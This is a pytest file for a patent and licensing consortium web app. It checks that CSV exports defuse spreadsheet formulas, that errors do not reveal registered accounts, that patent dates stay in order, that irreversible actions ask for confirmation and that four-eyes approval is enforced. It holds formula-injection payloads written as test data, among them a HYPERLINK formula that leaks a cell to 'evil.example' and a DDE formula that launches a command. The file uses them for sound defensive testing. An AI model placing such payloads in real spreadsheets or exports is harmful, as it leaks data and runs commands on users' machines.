"""Issue 11, items 9, 10, 18, 20, 21: what a hostile tester and careful users got through.

CSV exports that a spreadsheet would run as formulas; accounts harvested through inventor and
beneficiary ids and the form's e-mail lookup; patent dates out of order; irreversible actions
without a confirmation; one legal officer both sending a contract for review and approving it.
"""
from __future__ import annotations

import csv
import datetime as dt
import io
import re
from decimal import Decimal

import pytest

from tests.helpers import PASSWORD, ConsortiumJourney, LicenceJourney, disclosure_payload

ASSESS = {"trl": "5", "crl": "3", "mrl": "4", "irl": "3", "ownership": "institution",
          "recommendation": "Protect and license."}
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A9)",
           "\tTabbed", "\rReturn"]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def browser(app, user):
    client = app.test_client()
    r = client.post("/login", data={"email": user.email, "password": PASSWORD})
    assert r.status_code == 302
    return client


def _fire(client, path, trigger, **body):
    return client.post(f"{path}/transitions/{trigger}", json=body)


def _protected(api, team, *, title="Seed coating from camel-wool keratin",
               signatory=None) -> int:
    """A disclosure of Alice's taken to "protected", submitted today."""
    alice, legal = api(team.alice), api(team.legal)
    r = alice.post("/disclosures", json=disclosure_payload((team.alice, "100"), title=title))
    assert r.status_code == 201, r.get_json()
    did = r.get_json()["id"]
    path = f"/disclosures/{did}"
    assert _fire(alice, path, "submit").status_code == 200
    assert _fire(legal, path, "start_review").status_code == 200
    assert _fire(legal, path, "complete_assessment", data=ASSESS).status_code == 200
    doc = _fire(legal, path, "decide_protect").get_json()["documents"][0]
    org_signatory = signatory or team.legal  # the organisation's signatory, then the inventor
    for client, user in ((api(org_signatory), org_signatory), (alice, team.alice)):
        r = client.post(f"/documents/{doc['id']}/signatures",
                        json={"typed_name": user.name, "consent": True})
        assert r.status_code == 201, r.get_json()
    assert legal.get(path).get_json()["state"] == "protected"
    return did


# -- 9. CSV exports -----------------------------------------------------------------------------
def _csv(client, key) -> list[list[str]]:
    r = client.get(f"/dashboard?csv={key}")
    assert r.status_code == 200 and r.mimetype == "text/csv"
    text = r.get_data(as_text=True)
    lines = [line for line in text.split("\r\n") if line]
    # every field is quoted, so a reader cannot split a cell on a stray separator
    assert all(line.startswith('"') and line.endswith('"') for line in lines), lines
    return list(csv.reader(io.StringIO(text)))


def test_every_csv_defuses_formulas_and_writes_money_as_numbers(api, team, login_as, client):
    did = _protected(api, team, title='=cmd|" /C calc"!A0')
    legal = api(team.legal)
    share = "10"
    r = legal.post("/benefit-plans", json={
        "disclosure_id": did, "currency": "KZT",
        "beneficiaries": [{"kind": "inventor", "user_id": team.alice.id, "share_percent": "40"},
                          *({"kind": "department", "label": label, "share_percent": share}
                            for label in HOSTILE)]})
    assert r.status_code == 201, r.get_json()
    # as stored: surrounding whitespace (the tab, the CR) is trimmed on the way in
    labels = [b["label"] for b in r.get_json()["beneficiaries"] if b["kind"] == "department"]
    plan = f"/benefit-plans/{r.get_json()['id']}"
    draft = _fire(legal, plan, "propose").get_json()["documents"][0]
    for user in (team.alice, team.legal):
        if user.id in draft["required_signers"]:
            assert api(user).post(f"/documents/{draft['id']}/signatures", json={
                "typed_name": user.name, "consent": True}).status_code == 201
    r = _fire(legal, plan, "approve")
    assert r.status_code == 200
    agreement = r.get_json()["documents"][0]  # in force once its parties have signed it
    for user in (team.alice, team.legal):
        if user.id in agreement["required_signers"]:
            assert api(user).post(f"/documents/{agreement['id']}/signatures", json={
                "typed_name": user.name, "consent": True}).status_code == 201
    r = _fire(legal, plan, "record_revenue", data={"amount": "1234567.50",
                                                   "source": "=1+1 sale"})
    assert r.status_code == 200, r.get_json()

    login_as(team.legal)
    from consortium.web.dashboard import TABLES
    money_columns = {"amount"}
    for key in TABLES:
        rows = _csv(client, key)
        if not rows:  # nothing to export (no licence income here)
            continue
        header, body = rows[0], rows[1:]
        for row in body:
            for name, cell in zip(header, row, strict=True):
                if name in money_columns or re.fullmatch(r"-?\d+(\.\d+)?", cell):
                    continue
                assert not cell.startswith(FORMULA_START), (key, name, cell)

    rows = _csv(client, "distributions")
    assert rows[0] == ["beneficiary", "amount", "currency"]
    by_label = {r[0]: r for r in rows[1:]}
    for label in labels:
        expected = "'" + label if label.startswith(FORMULA_START) else label
        assert expected in by_label, (label, list(by_label))
    assert sum(label.startswith(FORMULA_START) for label in labels) >= 4
    assert team.alice.name in by_label
    for _label, amount, currency in rows[1:]:
        assert re.fullmatch(r"\d+\.\d{2}", amount), amount  # a number, no spaces, no sign
        assert currency == "KZT"
    assert sum(Decimal(r[1]) for r in rows[1:]) == Decimal("1234567.50")
    assert by_label[team.alice.name][1] == "493827.00"


def test_the_csv_writer_keeps_negative_numbers_numbers_and_defuses_text():
    from consortium.web.dashboard import to_csv
    text = to_csv([{"label": "-1234.50", "amount": Decimal("-1234.50"), "n": -3,
                    "currency": "KZT"},
                   {"label": "@x", "amount": Decimal("1234567.5"), "n": 0,
                    "currency": "KZT"}])
    assert text.split("\r\n")[:3] == [
        '"label","amount","n","currency"',
        '"\'-1234.50","-1234.50","-3","KZT"',
        '"\'@x","1234567.5","0","KZT"']


# -- 10. account harvesting ---------------------------------------------------------------------
@pytest.fixture
def strangers(make_user, team):
    """People who exist but may not be named as Alice's co-inventors."""
    return {
        "admin": make_user("admin", team.org, "Adam Admin"),
        "own_legal": team.legal,
        "other_legal": team.outsider_legal,
        "other_researcher": team.outsider,
        "partner": make_user("partner", team.org, "Pavel Partner"),
    }


def test_an_inventor_id_names_only_people_who_can_be_inventors(api, team, strangers):
    alice = api(team.alice)
    # a colleague researcher of the filing organisation can be named
    r = alice.post("/disclosures", json=disclosure_payload((team.alice, "60"), (team.bob, "40")))
    assert r.status_code == 201, r.get_json()

    unknown = alice.post("/disclosures", json={**disclosure_payload((team.alice, "60")),
                                                "inventors": [
        {"user_id": team.alice.id, "share_percent": "60"},
        {"user_id": 99999999, "share_percent": "40"}]})
    assert unknown.status_code == 422
    assert unknown.get_json()["error"]["fields"] == {
        "inventors.1.user_id": "not a person who can be named here"}
    for who, person in strangers.items():
        r = alice.post("/disclosures", json=disclosure_payload((team.alice, "60"),
                                                               (person, "40")))
        assert r.status_code == 422, who
        # the very same answer as for an id that does not exist: nothing tells them apart
        assert r.get_json() == unknown.get_json(), who
        assert person.email not in r.get_data(as_text=True)
        assert person.name not in r.get_data(as_text=True)
    # the same on an edit
    did = alice.post("/disclosures", json=disclosure_payload((team.alice, "100"))) \
        .get_json()["id"]
    version = alice.get(f"/disclosures/{did}").get_json()["version"]
    r = alice.patch(f"/disclosures/{did}", json={"version": version, "inventors": [
        {"user_id": team.alice.id, "share_percent": "50"},
        {"user_id": team.outsider_legal.id, "share_percent": "50"}]})
    assert r.status_code == 422
    assert r.get_json()["error"]["fields"] == {
        "inventors.1.user_id": "not a person who can be named here"}


def test_a_consortium_member_researcher_can_be_a_co_inventor(api, team):
    """The organisations that may be party to a disclosure: the filer's, and the active
    members of the consortium the disclosure names."""
    legal = api(team.legal)
    r = legal.post("/consortia", json={
        "name": "Steppe Agro-Polymer Consortium", "purpose": "Seed coatings.",
        "lead_organization_id": team.org.id, "ip_regime": "joint_ownership",
        "members": [
            {"organization_id": team.org.id, "role": "lead", "contribution_type": "in_kind",
             "contribution_value": "100", "currency": "KZT",
             "contribution_description": "Laboratory", "share_percent": "60"},
            {"organization_id": team.outsider_org.id, "role": "member",
             "contribution_type": "cash", "contribution_value": "100", "currency": "KZT",
             "contribution_description": "Funding", "share_percent": "40"}]})
    assert r.status_code == 201, r.get_json()
    cid = r.get_json()["id"]
    assert _fire(legal, f"/consortia/{cid}", "propose").status_code == 200
    alice = api(team.alice)
    body = disclosure_payload((team.alice, "60"), (team.outsider, "40"))
    r = alice.post("/disclosures", json=body)
    assert r.status_code == 422  # not without the consortium
    r = alice.post("/disclosures", json={**body, "consortium_id": cid})
    assert r.status_code == 201, r.get_json()
    assert [i["user_id"] for i in r.get_json()["inventors"]] == [team.alice.id, team.outsider.id]
    # the member's legal staff still cannot be named
    r = alice.post("/disclosures", json={**disclosure_payload(
        (team.alice, "60"), (team.outsider_legal, "40")), "consortium_id": cid})
    assert r.status_code == 422


def test_a_beneficiary_id_names_only_inventors_and_party_researchers(api, team, strangers):
    # a partner of the organisation is its default signatory
    did = _protected(api, team, signatory=strangers["partner"])
    legal = api(team.legal)

    def plan_with(user_id):
        return legal.post("/benefit-plans", json={
            "disclosure_id": did, "currency": "KZT",
            "beneficiaries": [{"kind": "inventor", "user_id": user_id, "share_percent": "50"},
                              {"kind": "institution", "organization_id": team.org.id,
                               "share_percent": "50"}]})
    unknown = plan_with(99999999)
    assert unknown.status_code == 422
    assert unknown.get_json()["error"]["fields"] == {
        "beneficiaries.0.user_id": "not a person who can be named here"}
    for who, person in strangers.items():
        r = plan_with(person.id)
        assert r.status_code == 422, who
        assert r.get_json() == unknown.get_json(), who
        assert person.name not in r.get_data(as_text=True)
    # the inventor, and a researcher of the rights holder, can be named
    r = plan_with(team.alice.id)
    assert r.status_code == 201, r.get_json()
    assert r.get_json()["beneficiaries"][0]["label"] == team.alice.name
    version = r.get_json()["version"]
    r = legal.patch(f"/benefit-plans/{r.get_json()['id']}", json={
        "version": version, "beneficiaries": [
            {"kind": "inventor", "user_id": team.bob.id, "share_percent": "50"},
            {"kind": "institution", "organization_id": team.org.id, "share_percent": "50"}]})
    assert r.status_code == 200, r.get_json()


def _form(me, other_email, other_name, share="40"):
    return {"title": "Seed coating from camel-wool keratin",
            "abstract": "A keratin-chitosan seed coating.", "funding_source": "state_grant",
            "inventors-0-email": me.email, "inventors-0-name": "",
            "inventors-0-organization_id": "", "inventors-0-share_percent": "60",
            "inventors-1-email": other_email, "inventors-1-name": other_name,
            "inventors-1-organization_id": "", "inventors-1-share_percent": share}


def test_the_form_does_not_tell_whether_an_address_is_registered(app, team, strangers):
    alice = browser(app, team.alice)
    registered = strangers["other_legal"].email
    unregistered = "nobody-here@example.org"
    # without a name: the same refusal for both addresses
    answers = []
    for email in (registered, unregistered):
        r = alice.post("/disclosures/new", data=_form(team.alice, email, ""))
        assert r.status_code == 422
        answers.append(r.get_data(as_text=True).replace(email, "EMAIL"))
    assert answers[0] == answers[1]
    assert strangers["other_legal"].name not in answers[0]
    # with a name: both become an inventor without an account, by name and e-mail
    from consortium.disclosures.models import Disclosure
    from consortium.extensions import db
    made = []
    for email in (registered, unregistered):
        r = alice.post("/disclosures/new", data=_form(team.alice, email, "Someone Typed"))
        assert r.status_code == 302, r.get_data(as_text=True)[:300]
        did = int(r.headers["Location"].rsplit("/", 1)[1])
        with app.app_context():
            d = db.session.get(Disclosure, did)
            made.append([(i.user_id, i.name, i.email) for i in d.inventors])
    assert made == [[(team.alice.id, team.alice.name, team.alice.email),
                     (None, "Someone Typed", email)] for email in (registered, unregistered)]
    # a colleague who can be named is recognised by the address alone
    r = alice.post("/disclosures/new", data=_form(team.alice, team.bob.email.upper(), ""))
    assert r.status_code == 302
    with app.app_context():
        d = db.session.get(Disclosure, int(r.headers["Location"].rsplit("/", 1)[1]))
        assert [i.user_id for i in d.inventors] == [team.alice.id, team.bob.id]


# -- 18. patent dates ---------------------------------------------------------------------------
def test_patent_dates_are_not_in_the_future_and_follow_each_other(api, team):
    did = _protected(api, team)
    legal = api(team.legal)
    path = f"/disclosures/{did}"
    today = dt.date.today()
    filing = {"office": "KazPatent", "application_number": "2026/1"}

    r = _fire(legal, path, "file_patent", data={**filing, "filing_date": "2031-03-03"})
    assert r.status_code == 422
    assert r.get_json()["error"]["fields"] == {
        "filing_date": "the filing date cannot be in the future"}
    r = _fire(legal, path, "file_patent", data={**filing, "filing_date": "2020-01-15"})
    assert r.status_code == 422
    assert r.get_json()["error"]["fields"] == {
        "filing_date": "the filing date cannot be before the disclosure was submitted, "
                       f"{today.isoformat()}"}
    assert legal.get(path).get_json()["state"] == "protected"
    r = _fire(legal, path, "file_patent", data={**filing, "filing_date": today.isoformat()})
    assert r.status_code == 200, r.get_json()

    grant = {"patent_number": "KZ 36123"}
    r = _fire(legal, path, "grant", data={**grant, "grant_date": (
        today - dt.timedelta(days=1)).isoformat()})
    assert r.status_code == 422
    assert r.get_json()["error"]["fields"] == {
        "grant_date": f"the grant date cannot be before the filing date, {today.isoformat()}"}
    r = _fire(legal, path, "grant", data={**grant, "grant_date": (
        today + dt.timedelta(days=30)).isoformat()})
    assert r.status_code == 422
    assert r.get_json()["error"]["fields"] == {
        "grant_date": "the grant date cannot be in the future"}
    assert legal.get(path).get_json()["state"] == "patent_pending"
    r = _fire(legal, path, "grant", data={**grant, "grant_date": today.isoformat()})
    assert r.status_code == 200, r.get_json()
    assert r.get_json()["record"]["patent"]["grant_date"] == today.isoformat()


# -- 20. irreversible actions -------------------------------------------------------------------
IRREVERSIBLE = {
    "disclosure": {"withdraw", "decide_release", "abandon"},
    # a notice of withdrawal can be cancelled until it takes effect (cancel_withdrawal)
    "consortium": {"dissolve"},
    # an option that lapsed cannot be exercised any more
    "license": {"terminate", "expire", "abandon", "lapse_option"},
    "benefit_plan": {"terminate"},
    # a withdrawn offer can be published again; a closed request is final
    "offer": set(),
    "request": {"close"},
}


def test_the_workflows_say_which_actions_cannot_be_undone(api, team):
    answer = api(team.alice).get("/workflows").get_json()
    for wf in answer:
        marked = {t["trigger"] for t in wf["transitions"] if t["irreversible"]}
        assert marked == IRREVERSIBLE[wf["name"]], wf["name"]
        for t in wf["transitions"]:
            assert bool(t["consequence"]) == t["irreversible"], (wf["name"], t["trigger"])


def test_an_irreversible_action_asks_for_confirmation_in_the_browser(app, api, team):
    did = api(team.alice).post("/disclosures", json=disclosure_payload(
        (team.alice, "100"))).get_json()["id"]
    alice = browser(app, team.alice)
    body = alice.get(f"/disclosures/{did}").get_data(as_text=True)
    form = re.search(rf'<form[^>]*action="/disclosures/{did}/actions/withdraw".*?</form>',
                     body, re.S).group(0)
    assert "This cannot be undone." in form
    assert "cannot be submitted again" in form  # what will happen
    assert re.search(r'<input type="checkbox" name="confirm" value="yes" required', form)
    submit = re.search(rf'<form[^>]*action="/disclosures/{did}/actions/submit".*?</form>',
                       body, re.S).group(0)
    assert 'name="confirm"' not in submit

    version = re.search(r'name="version" value="(\d+)"', form).group(1)
    referer = {"Referer": f"http://localhost/disclosures/{did}"}
    r = alice.post(f"/disclosures/{did}/actions/withdraw", data={"version": version},
                   headers=referer)
    assert r.status_code == 302
    page = alice.get(f"/disclosures/{did}").get_data(as_text=True)
    assert "tick “I understand” to confirm" in page
    assert api(team.alice).get(f"/disclosures/{did}").get_json()["state"] == "draft"
    r = alice.post(f"/disclosures/{did}/actions/withdraw",
                   data={"version": version, "confirm": "yes"}, headers=referer)
    assert r.status_code == 302
    assert api(team.alice).get(f"/disclosures/{did}").get_json()["state"] == "withdrawn"

    # someone who may not act at all learns that, not about the box
    did = api(team.alice).post("/disclosures", json=disclosure_payload(
        (team.alice, "60"), (team.bob, "40"))).get_json()["id"]
    _fire(api(team.alice), f"/disclosures/{did}", "submit")
    legal = browser(app, team.legal)
    r = legal.post(f"/disclosures/{did}/actions/withdraw", data={},
                   headers={"Referer": f"http://localhost/disclosures/{did}"})
    assert r.status_code == 302
    messages = re.findall(r'<p class="flash error">(.*?)</p>',
                          legal.get(f"/disclosures/{did}").get_data(as_text=True))
    assert messages == ["Only an inventor can do this."], messages

    # the API asks for no confirmation: a client that sends the request means it
    r = _fire(api(team.bob), f"/disclosures/{did}", "withdraw")
    assert r.status_code == 200 and r.get_json()["record"]["state"] == "withdrawn"


# -- 21. four eyes ------------------------------------------------------------------------------
FOUR_EYES = ("You sent this for legal review; another member of the legal staff must approve "
             "it.")


def test_who_sends_a_consortium_agreement_for_review_cannot_approve_it(
        app, api, make_org, make_user):
    j = ConsortiumJourney(api, make_org, make_user)
    j.fire(j.lead, "propose")
    j.sign_all()
    j.fire(j.lead, "submit_for_review")
    path = f"/consortia/{j.id}"
    r = _fire(j.lead, path, "approve", comment="Fine.")
    assert r.status_code == 403
    assert r.get_json()["error"]["message"] == FOUR_EYES
    approve = next(t for t in j.lead.get(f"{path}/transitions").get_json()
                   if t["trigger"] == "approve")
    assert approve["allowed"] is False and approve["reason"] == FOUR_EYES
    assert j.lead.get(path).get_json()["state"] == "legal_review"

    # the inbox lists the approval for the other legal officer only
    lead_user = next(u for _c, u in j.clients.values() if u.name == "Lena Lead")
    reviewer_user = next(u for _c, u in j.clients.values() if u.name == "Roza Reviewer")
    label = "Approve the agreement for signature"
    assert label not in browser(app, lead_user).get("/inbox").get_data(as_text=True)
    assert label in browser(app, reviewer_user).get("/inbox").get_data(as_text=True)
    # the record page tells the submitter why
    body = browser(app, lead_user).get(f"/consortia/{j.id}").get_data(as_text=True)
    assert FOUR_EYES in body

    r = _fire(j.reviewer, path, "approve", comment="Fine.")
    assert r.status_code == 200, r.get_json()
    assert r.get_json()["record"]["state"] == "signing"


def test_who_sends_a_licence_for_review_cannot_approve_it(api, make_org, make_user):
    j = LicenceJourney(api, make_org, make_user)
    r = j.legal.post("/licenses", json={
        "disclosure_id": j.did, "licensee_organization_id": j.firm.id,
        "license_type": "exclusive", "field_of_use": "Seed coatings", "territory": ["KZ"]})
    assert r.status_code == 201, r.get_json()
    path = f"/licenses/{r.get_json()['id']}"
    j._fire(j.legal, path, "request_nda")
    for uid in j.last_doc["required_signers"]:
        client, user = j.clients[uid]
        assert client.post(f"/documents/{j.last_doc['id']}/signatures", json={
            "typed_name": user.name, "consent": True}).status_code == 201
    j._fire(j.partner, path, "propose_terms", data={
        "term_months": 120, "upfront_fee": "5000000", "royalty_rate_percent": "3.5",
        "minimum_annual_royalty": "1000000"})
    j._fire(j.legal, path, "submit_for_review")
    r = _fire(j.legal, path, "approve")
    assert r.status_code == 403
    assert r.get_json()["error"]["message"] == FOUR_EYES
    # sent back and resubmitted by the other officer: now the first may approve
    j._fire(j.reviewer, path, "request_changes", comment="Check clause 4.")
    j._fire(j.reviewer, path, "submit_for_review")
    assert _fire(j.reviewer, path, "approve").status_code == 403
    r = _fire(j.legal, path, "approve")
    assert r.status_code == 200, r.get_json()
    assert r.get_json()["record"]["state"] == "signing"


def test_a_one_person_office_may_relax_four_eyes(app, api, make_org, make_user, monkeypatch):
    j = ConsortiumJourney(api, make_org, make_user)
    j.fire(j.lead, "propose")
    j.sign_all()
    j.fire(j.lead, "submit_for_review")
    assert _fire(j.lead, f"/consortia/{j.id}", "approve", comment="Fine.").status_code == 403
    monkeypatch.setitem(app.config, "FOUR_EYES", False)  # CONSORTIUM_FOUR_EYES=0
    r = _fire(j.lead, f"/consortia/{j.id}", "approve", comment="Fine.")
    assert r.status_code == 200, r.get_json()


def test_the_four_eyes_setting_is_read_from_the_environment(monkeypatch, tmp_path):
    from consortium.config import from_environment
    monkeypatch.delenv("CONSORTIUM_FOUR_EYES", raising=False)
    monkeypatch.setenv("CONSORTIUM_SECRET_KEY", "x")
    assert from_environment(str(tmp_path))["FOUR_EYES"] is True
    monkeypatch.setenv("CONSORTIUM_FOUR_EYES", "0")
    assert from_environment(str(tmp_path))["FOUR_EYES"] is False
    monkeypatch.setenv("CONSORTIUM_FOUR_EYES", "maybe")
    with pytest.raises(ValueError):
        from_environment(str(tmp_path))
